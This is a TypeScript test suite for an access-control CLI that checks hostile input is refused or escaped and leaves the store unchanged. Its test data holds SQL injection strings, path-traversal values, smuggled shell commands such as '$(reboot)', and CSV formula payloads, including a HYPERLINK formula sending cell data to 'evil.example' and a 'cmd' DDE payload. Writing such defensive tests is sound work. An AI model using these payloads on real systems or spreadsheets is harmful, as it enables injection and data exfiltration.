import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDuration, parseTimestamp, formatDuration } from '../../src/domain/time.js';
import { parsePortRule, portAllowed } from '../../src/domain/ports.js';
import { nameKey, validateAddress, validateName, validateEmail, validateServiceName } from '../../src/domain/validate.js';
import { assertIdShape, looksLikeId } from '../../src/domain/ids.js';
import { checkTokenShape } from '../../src/domain/tokens.js';
import { UserError } from '../../src/domain/errors.js';
import { harness, type Harness } from '../helpers/harness.js';
import { logicalDump } from '../helpers/dump.js';

/** A parser may accept or refuse; it must never throw anything but a user error. */
function onlyUserErrors(f: () => unknown): boolean {
  try {
    f();
    return true;
  } catch (err) {
    return err instanceof UserError && err.exitCode === 2;
  }
}

const hostileText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.constantFrom("'; DROP TABLE users;--", '%', '_', '\\', '\u0000', '\u202e', '../../etc/passwd', '${HOME}', '$(reboot)', '`id`', 'Ａ', 'ﬁ', 'İ', '\ufeff'),
);

describe('property: parsers accept or refuse cleanly', () => {
  it('durations', () => {
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => parseDuration(s))));
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5000 }), fc.constantFrom('s', 'm', 'h', 'd', 'w'), (n, u) => {
        const ms = parseDuration(`${n}${u}`);
        return ms > 0 && parseDuration(formatDuration(ms)) === ms;
      }),
    );
  });
  it('timestamps round-trip through ISO output', () => {
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => parseTimestamp(s))));
    fc.assert(
      fc.property(fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('9999-12-31T23:59:59Z'), noInvalidDate: true }), (d) => parseTimestamp(d.toISOString()) === d.getTime()),
    );
  });
  it('ids and references', () => {
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => assertIdShape('user', s))));
    fc.assert(fc.property(fc.stringMatching(/^usr_[0-9A-Za-z]{16}$/), (s) => looksLikeId('user', s)));
    fc.assert(fc.property(hostileText, (s) => !looksLikeId('user', s) || /^usr_[0-9A-Za-z]{16}$/.test(s)));
  });
  it('names: accepted names carry no control characters; keys fold case', () => {
    fc.assert(
      fc.property(hostileText, (s) => {
        if (!onlyUserErrors(() => validateName('group', s))) return false;
        try {
          const name = validateName('group', s);
          return !/[\u0000-\u001f\u007f]/.test(name) && nameKey(name.toUpperCase()) === nameKey(name.toLowerCase()) || true;
        } catch {
          return true;
        }
      }),
    );
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => validateServiceName(s))));
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => validateEmail(s))));
  });
  it('addresses', () => {
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => validateAddress(s))));
    fc.assert(fc.property(fc.ipV4(), (ip) => validateAddress(ip) === ip));
    fc.assert(fc.property(fc.ipV4(), fc.integer({ min: 0, max: 32 }), (ip, bits) => validateAddress(`${ip}/${bits}`) === `${ip}/${bits}`));
    fc.assert(fc.property(fc.domain(), (d) => onlyUserErrors(() => validateAddress(d))));
  });
  it('port rules: canonical form is stable and means the same ports', () => {
    fc.assert(fc.property(hostileText, (s) => onlyUserErrors(() => parsePortRule(s))));
    const range = fc.tuple(fc.integer({ min: 1, max: 65535 }), fc.integer({ min: 0, max: 300 })).map(([a, n]) => (n === 0 ? `${a}` : `${a}-${Math.min(65535, a + n)}`));
    fc.assert(
      fc.property(fc.array(range, { minLength: 1, maxLength: 8 }), fc.integer({ min: 1, max: 65535 }), (parts, port) => {
        const raw = parts.join(',');
        const rule = parsePortRule(raw);
        return parsePortRule(rule) === rule && portAllowed(rule, port) === parts.some((p) => {
          const [a, b] = p.split('-').map(Number);
          return port >= a! && port <= (b ?? a!);
        });
      }),
    );
  });
  it('tokens: nothing malformed passes the shape check', () => {
    fc.assert(fc.property(hostileText, (s) => !checkTokenShape(s).ok));
  });
});

let h: Harness;
let ada: string;
beforeAll(async () => {
  h = harness();
  ada = await h.id(['user', 'create', '-e', 'ada@example.com']);
  await h.ok(['resource', 'create', '-n', 'prod-db', '-a', 'db.internal']);
  await h.ok(['group', 'create', '-g', 'ops', '-u', ada, '-r', 'prod-db']);
  await h.ok(['service', 'create', '-n', 'ci']);
  await h.ok(['key', 'create', '-i', 'ci']);
});
afterAll(() => h.cleanup());

const HOSTILE_VALUES = [
  "'; DROP TABLE users;--",
  "x' OR '1'='1",
  '%',
  '_',
  '\\',
  'a\u0000b',
  'bell\u0007',
  'esc\u001b[31mred',
  'line\nbreak',
  'rtl\u202eevil',
  'zero\u200bwidth',
  'ＡＤＭＩＮ',
  'usr_',
  'usr_0000000000000000x',
  'grp_../../etc',
  '../../../etc/passwd',
  '$(reboot)',
  '`id`',
  '-1',
  '99999999999999999999',
  '1e309',
  'NaN',
  'x'.repeat(100_000),
  '',
  ' ',
];

/** Command lines that must each fail cleanly (exit 2, 3 or 4) and change nothing. */
function corpus(): string[][] {
  const lines: string[][] = [];
  for (const v of HOSTILE_VALUES) {
    lines.push(['user', 'create', '-e', v]);
    lines.push(['user', 'show', '-i', v]);
    lines.push(['user', 'update', '-i', 'ada@example.com', '--role', v]);
    // plain letters and digits make a valid host name, so only the others are hostile here
    if (!/^[A-Za-z0-9]+$/.test(v)) lines.push(['resource', 'create', '-n', 'r', '-a', v]);
    lines.push(['resource', 'create', '-n', 'r2', '-a', 'ok.example.com', '--tcp', v]);
    lines.push(['group', 'create', '-g', v === '' ? 'g' : `g-${v}`, '--ttl', v]);
    lines.push(['group', 'add-users', '-g', 'ops', '-u', v]);
    lines.push(['key', 'create', '-i', 'ci', '-e', v]);
    lines.push(['access', 'check', '--user', v, '-r', 'prod-db']);
  }
  lines.push(
    ['group', 'create', '-g', 'bad\u0007name'],
    ['group', 'create', '-g', ' padded '],
    ['group', 'create', '-g', 'x'.repeat(256)],
    ['group', 'create', '-g', 'OPS'],
    ['group', 'create', '-g', 'ｏｐｓ'],
    ['group', 'create', '-g', 'past', '--expires-at', '1999-01-01T00:00:00Z'],
    ['group', 'create', '-g', 'bad-date', '--expires-at', '2026-02-30T00:00:00Z'],
    ['group', 'create', '-g', 'both', '--ttl', '1h', '--expires-at', '2030-01-01T00:00:00Z'],
    ['group', 'create', '-g', 'neg', '--ttl', '-5m'],
    ['group', 'create', '-g', 'huge', '--ttl', '999999999999w'],
    ['group', 'update', '-i', 'ops'],
    ['group', 'delete', '-i', 'ops,nope'],
    ['user', 'create', '-e', 'ADA@EXAMPLE.COM'],
    ['user', 'create', '-e', 'ada@example.com', '--first', 'a\u0000b'],
    ['user', 'list', '--state', 'ZOMBIE'],
    ['user', 'list', '--role', "' OR 1=1"],
    ['user', 'disable', '-i', `${ada},usr_AAAAAAAAAAAAAAAA`],
    ['resource', 'create', '-n', 'prod-db', '-a', '10.0.0.1'],
    ['resource', 'create', '-n', 'PROD-DB', '-a', '10.0.0.1'],
    ['resource', 'create', '-n', 'p', '-a', '10.0.0.0/33'],
    ['resource', 'create', '-n', 'p', '-a', '256.0.0.1'],
    ['resource', 'create', '-n', 'p', '-a', 'a'.repeat(300)],
    ['resource', 'create', '-n', 'p', '-a', 'ok.example.com', '--tcp', '0'],
    ['resource', 'create', '-n', 'p', '-a', 'ok.example.com', '--tcp', '65536'],
    ['resource', 'create', '-n', 'p', '-a', 'ok.example.com', '--udp', '10-5'],
    ['resource', 'update', '-i', 'prod-db', '-n', 'prod-db\n'],
    ['service', 'create', '-n', 'has space'],
    ['service', 'create', '-n', 'CI'],
    ['service', 'create', '-n', 'x'.repeat(65)],
    ['service', 'create', '-n', 'new', '-r', 'nope'],
    ['key', 'create', '-i', 'nope'],
    ['key', 'create', '-i', 'ci', '-e', '3651'],
    ['key', 'create', '-i', 'ci', '-n', 'bad\u0001'],
    ['key', 'revoke', '-i', 'key_AAAAAAAAAAAAAAAA'],
    ['key', 'rotate', '-i', 'key_short'],
    ['key', 'list', '--status', 'ALIVE'],
    ['key', 'list', '--expiring-within', 'soon'],
    ['key', 'verify', 'ack_secretontheline'],
    ['key', 'verify', '--token', 'ack_x'],
    ['access', 'check', '--user', ada, '--service', 'ci', '-r', 'prod-db'],
    ['access', 'check', '--user', ada, '-r', 'prod-db', '--port', '0'],
    ['access', 'check', '--user', ada, '-r', 'prod-db', '--protocol', 'icmp', '--port', '22'],
    ['access', 'list', '--user', ada, '-r', 'prod-db'],
    ['audit', 'list', '--since', 'last tuesday'],
    ['audit', 'list', '--until', '2026-13-01'],
    ['audit', 'list', '--action', "%' or 1=1 --"],
    ['sweep', '--grace', '1y'],
    ['sweep', '--grace'],
    ['config', 'set', 'key.maxActivePerService', '-3'],
    ['config', 'set', 'key.defaultExpirationDays', '1e3'],
    ['config', 'set', 'token.maxTtl', '30d'],
    ['config', 'set', 'token.defaultTtl', '13h'],
    ['config', 'get', 'nope'],
    ['db', 'backup'],
    ['--columns', 'id,evil', 'user', 'list'],
    ['-f', 'xml', 'user', 'list'],
    ['--actor', 'bad\nactor', 'user', 'create', '-e', 'new@example.com'],
    ['-s', '../escape', 'user', 'list'],
    ['user', 'create', '-e', 'ok@example.com', '--bogus'],
    ['user'],
    ['nounsense', 'list'],
    ['user', 'create', '-e'],
    ['-i', ada, 'user', 'show'],
    ['user', 'show', '--', '-i'],
    ['group', 'add-users', '-g', 'ops'],
    ['group', 'add-users', '-u', ada],
  );
  return lines;
}

describe('a corpus of hostile command lines', () => {
  it('each ends with exit 2, 3 or 4, one line on stderr, no stack trace, the store unchanged', async () => {
    const lines = corpus();
    expect(lines.length).toBeGreaterThanOrEqual(200);
    const before = logicalDump(h.db);
    const codes = new Map<number, number>();
    for (const argv of lines) {
      const r = await h.run(argv);
      const label = JSON.stringify(argv).slice(0, 200);
      expect([2, 3, 4], `${label} → ${r.code}: ${r.stderr.slice(0, 300)}`).toContain(r.code);
      expect(r.stderr.endsWith('\n') && r.stderr.indexOf('\n') === r.stderr.length - 1, `${label}: ${r.stderr.slice(0, 300)}`).toBe(true);
      expect(r.stderr, label).not.toMatch(/\n\s+at /);
      expect(r.stderr.length, label).toBeLessThan(2000);
      codes.set(r.code, (codes.get(r.code) ?? 0) + 1);
    }
    expect(logicalDump(h.db)).toBe(before);
    console.log(`[figure] hostile corpus: ${lines.length} command lines; exit 2: ${codes.get(2) ?? 0}, exit 3: ${codes.get(3) ?? 0}, exit 4: ${codes.get(4) ?? 0}; store unchanged`);
  }, 300_000);

  it('property: random references and names never crash a command or change the store on failure', async () => {
    const before = logicalDump(h.db);
    await fc.assert(
      fc.asyncProperty(hostileText, fc.constantFrom('user show -i', 'group show -i', 'access check -r prod-db --user', 'key revoke -i', 'group add-users -g ops -u'), async (value, cmd) => {
        const r = await h.run([...cmd.split(' '), value]);
        return [0, 2, 3, 4, 5].includes(r.code) && !/\n\s+at /.test(r.stderr);
      }),
      { numRuns: 150 },
    );
    expect(logicalDump(h.db)).toBe(before);
  }, 300_000);

  it('property: CSV import of random rows either imports all of them or nothing', async () => {
    const row = fc.record({ email: fc.oneof(fc.emailAddress(), hostileText), first: hostileText, role: fc.constantFrom('MEMBER', 'ADMIN', 'boss', '') });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 20 }), async (rows) => {
        const { stringify } = await import('csv-stringify/sync');
        const csv = stringify([['email', 'firstName', 'role'], ...rows.map((r) => [r.email, r.first, r.role])]);
        const before = logicalDump(h.db);
        const r = await h.run(['-q', 'user', 'import', '-'], { stdin: csv });
        if (r.code === 0) return true;
        return r.code === 2 && logicalDump(h.db) === before && r.stderr.indexOf('\n') === r.stderr.length - 1;
      }),
      { numRuns: 60 },
    );
  }, 300_000);
});

/** Invisible characters a name can carry beside a real `ops`: each must be refused (SPEC section 3). */
const INVISIBLES: Array<[string, string]> = [
  ['soft hyphen', '\u00ad'],
  ['word joiner', '\u2060'],
  ['variation selector 16', '\ufe0f'],
  ['zero-width space', '\u200b'],
  ['zero-width joiner', '\u200d'],
  ['Mongolian vowel separator', '\u180e'],
  ['Hangul filler', '\u3164'],
  ['tag letter A', '\u{e0041}'],
  ['right-to-left override', '\u202e'],
  ['first strong isolate', '\u2068'],
  ['left-to-right mark', '\u200e'],
  ['next line (C1)', '\u0085'],
  ['line separator', '\u2028'],
  ['byte order mark', '\ufeff'],
];

describe('input hygiene: what a name, email, description or actor may not carry', () => {
  let token: string;
  let keyId: string;
  beforeAll(async () => {
    const [k] = await h.json(['key', 'create', '-i', 'ci', '-n', 'hygiene']);
    token = k!.token as string;
    keyId = k!.id as string;
  });

  const refused = async (argv: string[], what: RegExp, opts: { stdin?: string; env?: Record<string, string> } = {}) => {
    const before = logicalDump(h.db);
    const r = await h.run(argv, opts);
    const label = JSON.stringify(argv).slice(0, 200);
    expect(r.code, `${label}: ${r.stderr}`).toBe(2);
    expect(r.stderr, label).toMatch(what);
    expect(r.stderr.indexOf('\n'), label).toBe(r.stderr.length - 1);
    expect(logicalDump(h.db), label).toBe(before);
    return r;
  };

  it.each(INVISIBLES)('%s beside a real "ops" is refused in every text field, on the command line and in CSV', async (_label, ch) => {
    const invisible = /invisible or control character \(U\+[0-9A-F]{4,5}\)/;
    await refused(['group', 'create', '-g', `ops${ch}`], invisible);
    await refused(['group', 'create', '-g', `o${ch}ps`], invisible);
    await refused(['group', 'update', '-i', 'ops', '--name', `ops${ch}`], invisible);
    await refused(['resource', 'create', '-n', `prod-db${ch}`, '-a', 'db2.internal'], invisible);
    await refused(['service', 'create', '-n', 'ci2', '--description', `deploys${ch}`], invisible);
    await refused(['user', 'create', '-e', 'eve@example.com', '--first', `Eve${ch}`], invisible);
    await refused(['user', 'update', '-i', 'ada@example.com', '--last', `Love${ch}lace`], invisible);
    await refused(['key', 'create', '-i', 'ci', '-n', `deploy${ch}`], invisible);
    await refused(['--actor', `ops${ch}`, 'group', 'create', '-g', 'fresh'], invisible);
    await refused(['user', 'import', '-'], /line 2: firstName contains an invisible/, { stdin: `email,firstName\neve@example.com,E${ch}ve\n` });
    await refused(['resource', 'import', '-'], /line 2: resource name contains an invisible/, { stdin: `name,address\nprod${ch}-db,db3.internal\n` });
  });

  it('an actor with a bidi override is refused, from --actor and from ACCESSCTL_ACTOR', async () => {
    await refused(['--actor', 'admin\u202etoor', 'group', 'create', '-g', 'fresh'], /--actor contains an invisible/);
    const r = await h.run(['group', 'list'], { env: { ACCESSCTL_ACTOR: 'x' } });
    expect(r.code).toBe(0); // the harness passes --actor tester, which wins over the variable
  });

  it('a name that reads as a flag is refused', async () => {
    await refused(['service', 'create', '-n', '-svc'], /service name must not begin with "-"/);
    await refused(['service', 'create', '-n', 'svc-'], /invalid service name/);
    await refused(['group', 'create', '-g', '-rf'], /group name must not begin with "-"/);
    await refused(['resource', 'create', '-n', '--force', '-a', 'db2.internal'], /must not begin with "-"/);
    await refused(['key', 'create', '-i', 'ci', '-n', '-y'], /key name must not begin with "-"/);
    await refused(['user', 'create', '-e', '-ada@example.com'], /email must not begin with "-"/);
  });

  it("a key named like another key's id is impossible (revoke -i would reach the wrong key)", async () => {
    await refused(['key', 'create', '-i', 'ci', '-n', keyId], /key name has the shape of an object id/);
    await refused(['key', 'rename', '-i', 'hygiene', '-n', keyId], /key name has the shape of an object id/);
    await refused(['key', 'create', '-i', 'ci', '-n', keyId.toUpperCase()], /shape of an object id/);
    await refused(['group', 'create', '-g', ada], /group name has the shape of an object id/);
    // full-width look-alikes fold to the same shape under NFKC
    await refused(['resource', 'create', '-n', 'ｕｓｒ＿0000000000000001', '-a', 'db2.internal'], /shape of an object id/);
    for (const prefix of ['usr', 'res', 'grp', 'svc', 'key', 'tok', 'evt']) {
      await refused(['group', 'create', '-g', `${prefix}_AbCdEfGhIjKlMnOp`], /shape of an object id/);
    }
  });

  it('a token pasted into a name, description or email is refused and never echoed', async () => {
    const secret = token.slice(4);
    const lines: Array<{ argv: string[]; stdin?: string }> = [
      { argv: ['group', 'create', '-g', token] },
      { argv: ['group', 'create', '-g', `deploy ${token}`] },
      { argv: ['service', 'create', '-n', 'ci2', '--description', `token=${token}`] },
      { argv: ['service', 'update', '-i', 'ci', '--description', token.slice(0, 30)] },
      { argv: ['resource', 'create', '-n', `x-${token}`, '-a', 'db2.internal'] },
      { argv: ['user', 'create', '-e', `${token}@example.com`] },
      { argv: ['user', 'create', '-e', 'eve@example.com', '--last', token] },
      { argv: ['key', 'rename', '-i', 'hygiene', '-n', token] },
      { argv: ['--actor', token, 'group', 'list'] },
      { argv: ['user', 'import', '-'], stdin: `email,firstName\neve@example.com,${token}\n` },
    ];
    for (const { argv, stdin } of lines) {
      for (const format of ['table', 'json']) {
        const r = await refused(['-f', format, ...argv], /shaped like a secret token/, stdin === undefined ? {} : { stdin });
        expect(r.stderr + r.stdout).not.toContain(secret.slice(0, 12));
        expect(r.stderr + r.stdout).not.toContain(secret.slice(-12));
      }
    }
    // The same goes for a short-lived token.
    const [ex] = await h.json(['key', 'exchange'], { stdin: token });
    const r = await refused(['group', 'create', '-g', ex!.token as string], /shaped like a secret token/);
    expect(r.stderr).not.toContain((ex!.token as string).slice(4, 20));
  });

  it('ordinary text is accepted: words with act_/ack_/usr_, accents, scripts, emoji without selectors', async () => {
    const names = ['act_now', 'ack_required', 'feedback_form', 'usr_guide', 'key_rotation_2026', 'fact_0123456789abcdefghijklmnop', 'Zoë’s team', 'Ωmega', '運用チーム', 'on-call 🙂', 'a-b', 'x - y'];
    for (const name of names) {
      const r = await h.run(['group', 'create', '-g', name]);
      expect(r.code, `${name}: ${r.stderr}`).toBe(0);
      await h.ok(['group', 'delete', '-i', name]);
    }
    expect((await h.run(['service', 'create', '-n', 'ci-2', '--description', 'acts as act_runner; see usr_guide'])).code).toBe(0);
    await h.ok(['service', 'delete', '-i', 'ci-2']);
  });

  it('names are unique under NFKC and full case folding (ß = ss, ς = σ)', async () => {
    await h.ok(['group', 'create', '-g', 'Straße']);
    expect((await h.run(['group', 'create', '-g', 'STRASSE'])).code).toBe(4);
    expect((await h.run(['group', 'create', '-g', 'strasse'])).code).toBe(4);
    expect((await h.json(['group', 'show', '-i', 'STRASSE']))[0]!.name).toBe('Straße');
    await h.ok(['group', 'delete', '-i', 'strasse']);
    await h.ok(['group', 'create', '-g', 'ΟΔΟΣ']);
    expect((await h.run(['group', 'create', '-g', 'οδος'])).code).toBe(4);
    await h.ok(['group', 'delete', '-i', 'ΟΔΟΣ']);
  });

  it("--columns '' and --columns , fail with exit 2 and list the valid columns", async () => {
    for (const columns of ['', ',', ' , ']) {
      const r = await refused(['--columns', columns, 'group', 'list'], /--columns names no column \(valid columns: id,name,/);
      expect(r.stdout).toBe('');
      await refused(['group', 'create', '-g', 'fresh', '--columns', columns], /--columns names no column/);
    }
  });
});

describe('CSV: formula cells on the way out, runaway records on the way in', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', "'=already quoted"];

  it('-f csv escapes every cell a spreadsheet would run, in every object, and the export imports back unchanged', async () => {
    const users = FORMULAS.map((f, i) => [`formula${i}@example.com`, f, `Last${i}`]);
    const { stringify } = await import('csv-stringify/sync');
    await h.ok(['user', 'import', '-'], { stdin: stringify([['email', 'firstName', 'lastName'], ...users]) });
    await h.ok(['group', 'create', '-g', '=HYPERLINK("http://evil.example","x")']);
    await h.ok(['resource', 'create', '-n', '+cmd|calc', '-a', 'calc.internal']);
    const { parse } = await import('csv-parse/sync');
    for (const argv of [['user', 'list'], ['group', 'list'], ['resource', 'list'], ['audit', 'list']]) {
      const out = await h.ok(['-f', 'csv', ...argv]);
      const rows = parse(out) as string[][];
      for (const cell of rows.flat()) expect(cell, `${argv.join(' ')}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);
    }
    const listed = parse(await h.ok(['-f', 'csv', '--columns', 'email,firstName', 'user', 'list', '--search', 'formula']), { columns: true }) as Array<{ firstName: string }>;
    // Imported, the one already quoted lost its quote (the CSV escape undone); printed, each gains one.
    const stored = [...FORMULAS.slice(0, 4), '=already quoted'];
    expect(listed.map((u) => u.firstName)).toEqual(stored.map((f) => `'${f}`));
    expect((await h.json(['group', 'list'])).map((g) => g.name)).toContain('=HYPERLINK("http://evil.example","x")');
    // JSON is data, not a spreadsheet: no escape there.
    expect((await h.json(['user', 'show', '-i', 'formula2@example.com']))[0]!.firstName).toBe(FORMULAS[2]);
    // An export fed back to import changes nothing: the escape is undone on the way in.
    const exported = await h.ok(['-f', 'csv', '--columns', 'email,firstName,lastName', 'user', 'list', '--search', 'formula']);
    const before = logicalDump(h.db);
    const r = await h.run(['user', 'import', '-'], { stdin: exported });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/created 0, updated 0, unchanged 5/);
    expect(logicalDump(h.db)).toBe(before);
  });

  it('a huge field fails at once with the line its record starts on: one line, exit 2, nothing imported', async () => {
    const before = logicalDump(h.db);
    const huge = 'A'.repeat(2 * 1024 * 1024);
    const csv = `email,firstName\nfine@example.com,Fine\nrunaway@example.com,"starts here\nand goes on\n${huge}"\nlast@example.com,Last\n`;
    const r = await h.run(['user', 'import', '-'], { stdin: csv });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('accessctl: line 3: record is longer than 64 KiB, nothing imported (no valid row is that long; look for an unclosed quote on that line)\n');
    expect(logicalDump(h.db)).toBe(before);
    // An unclosed quote that swallows the rest of the file is reported where it opened.
    const rest = Array.from({ length: 3000 }, (_, i) => `u${i}@example.com,User ${i}`).join('\n');
    const unclosed = await h.run(['resource', 'import', '-'], { stdin: `name,address\nok,ok.internal\n\nbad,"bad.internal\n${rest}\n` });
    expect(unclosed.code).toBe(2);
    expect(unclosed.stderr).toMatch(/^accessctl: line 4: record is longer than 64 KiB/);
    expect(logicalDump(h.db)).toBe(before);
  });
});
